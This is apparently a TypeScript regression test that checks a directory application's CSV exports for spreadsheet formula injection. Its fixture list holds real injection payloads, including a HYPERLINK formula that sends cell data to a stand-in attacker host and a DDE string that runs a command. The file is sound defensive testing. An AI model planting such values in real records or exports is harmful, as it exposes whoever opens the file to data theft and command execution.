import { beforeAll, describe, expect, it } from 'vitest'
import { anOrganization } from '../integration/directory/world.ts'
import { soon } from '../integration/configurator/world.ts'
import { readSheetCsv } from '../support/sheets.ts'
import { call, codeOf, db, stack, tokenFor } from '../support/stack.ts'
import { makeWorld } from './world.ts'

const FORMULAS = ['=HYPERLINK("http://evil.example?x="&A1,"Cliquez")', '+cmd|\' /C calc\'!A0', '-2+3', '@SUM(1+1)*cmd', '\t=1+1', '\r=1+1', ' =1+1', '＝1+1']
let marker: string
let structure: string

beforeAll(async () => {
  marker = `Formule ${Date.now()}`
  structure = (await makeWorld()).structure
  for (const formula of FORMULAS) await anOrganization(structure, { name: formula, legal_name: marker })
})

function expectSafe(csv: string): void {
  const cells = readSheetCsv(csv).flat()
  expect(cells.filter(cell => /^(?:[\t\r\n]|\s*[=+\-@＝])/.test(cell))).toEqual([])
  for (const formula of FORMULAS) expect(cells).toContain(`'${formula}`)
}

describe('EspoCRM CVE-2026-55154: a cell of an export is a formula', () => {
  it.each(['csv', 'csv_utf8'])('not in ?export=%s', async (format) => {
    const query = new URLSearchParams({ 'export': format, 'fields': 'name,phone,structure.name', 'filter[legal_name][_eq]': marker })
    const response = await fetch(`${stack.directusUrl}/items/organizations?${query}`, { headers: { authorization: `Bearer ${await tokenFor('conseiller')}` } })

    expect(response.headers.get('content-type')).toContain('text/csv')
    expect(response.headers.get('content-disposition')).toContain('attachment')
    expectSafe(await response.text())
  })

  it('not in the titles that an address chooses', async () => {
    const query = new URLSearchParams({ 'export': 'csv', 'fields': '=cmd', 'alias[=cmd]': 'name', 'filter[legal_name][_eq]': marker })
    const answer = await call(`/items/organizations?${query}`, { as: 'conseiller' })

    expect([answer.status, codeOf(answer)]).toEqual([400, 'INVALID_QUERY'])
  })

  it('not in the file that /utils/export makes', async () => {
    const title = `export ${marker}`
    const answer = await call('/utils/export/organizations', { as: 'admin', method: 'POST', body: { query: { fields: ['name', 'phone'], filter: { legal_name: { _eq: marker } } }, format: 'csv', file: { title } } })
    expect(answer.status).toBeLessThan(300)
    const id = await soon(async () => (await db.query<{ id: string }>('select id from directus_files where title = $1 and filesize > 0', [title])).rows[0]?.id, found => found !== undefined, 10_000)

    const { headers, body } = await call<string>(`/assets/${id}`, { as: 'admin' })
    expectSafe(String(body))
    expect(headers.get('content-disposition')).toMatch(/^attachment/)
    expect(headers.get('x-content-type-options')).toBe('nosniff')
  })

  it('keeps what people wrote in the formats that no spreadsheet runs', async () => {
    const query = new URLSearchParams({ 'export': 'json', 'fields': 'name', 'filter[legal_name][_eq]': marker })

    expect(JSON.stringify((await call(`/items/organizations?${query}`, { as: 'conseiller' })).body)).toContain('=HYPERLINK')
  })
})
